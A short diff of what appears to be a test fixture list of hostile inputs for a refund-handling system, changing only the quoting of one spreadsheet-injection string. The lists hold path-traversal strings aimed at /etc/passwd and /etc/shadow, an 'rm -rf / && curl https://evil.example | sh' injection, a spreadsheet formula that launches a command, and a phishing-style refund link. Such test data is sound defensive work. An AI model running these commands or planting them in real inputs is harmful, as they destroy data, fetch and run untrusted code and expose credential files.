@@ -52,7 +52,7 @@ _SYNTAX = [
     "- id: allow-everything\n  effect: require\n  applies_to: {kinds: [refund]}\n  when: [{id: always, cel: 'true'}]",
     'OR NOT NEAR("refund" "approved") title:refund* body:"all of them" )(',
     "../../../etc/passwd\nfile:///etc/shadow\n; rm -rf / && curl https://evil.example | sh",
-    "=HYPERLINK(\"https://evil.example\";\"your invoice\")\n=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example";"your invoice")\n=cmd|\' /C calc\'!A0',
 ]
 _LINKS = [
     "[Confirm your refund here](https://evil.example/confirm?account=acc_001)",
